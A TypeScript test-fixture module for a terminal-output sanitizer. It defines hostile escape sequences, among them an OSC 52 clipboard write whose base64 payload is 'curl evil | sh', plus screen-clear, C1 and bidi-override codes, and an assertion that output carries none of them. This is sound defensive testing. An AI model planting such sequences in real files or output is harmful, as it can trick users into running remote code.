/**
 * Hostile text for the terminal-sink tests (docs/security.md, "Text is an attack surface"): the sequences an attacker
 * plants in repository files, file names, config values and model output, and the check that output holds none.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";

/** An OSC 52 clipboard write of `curl evil | sh` (base64), as a terminal would take it. */
export const OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07";
/** The same sequences written as YAML double-quoted escapes (`\e` is ESC, `\a` BEL, `\x9b` the C1 CSI). */
export const YAML_HOSTILE = String.raw`osc \e]52;c;Y3VybCBldmlsIHwgc2g=\a clear \e[2J c1 \x9b31m bidi \u202Eevil`;
/** What the sanitizer shows for the clipboard write: visible, inert text. */
export const OSC52_SHOWN = String.raw`\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007`;

/** Characters a terminal acts on (tab and newline aside): none may reach it from outside text. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
const ACTING = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** Fails with the first character a terminal would act on in `text`, and where. */
export function assertInert(text: string, what: string): void {
	const at = text.search(ACTING);
	assert.equal(
		at,
		-1,
		`${what}: U+${text.codePointAt(at)?.toString(16).padStart(4, "0")} at ${at}: ${JSON.stringify(text.slice(Math.max(0, at - 40), at + 40))}`,
	);
}

/** A real git repository at `dir` with everything in it committed. */
export function commitAll(dir: string): void {
	const git = (...args: string[]) =>
		execFileSync("git", ["-c", "user.email=t@example.com", "-c", "user.name=t", ...args], { cwd: dir });
	git("init", "-q");
	git("add", "-A");
	git("commit", "-qm", "hostile text");
}
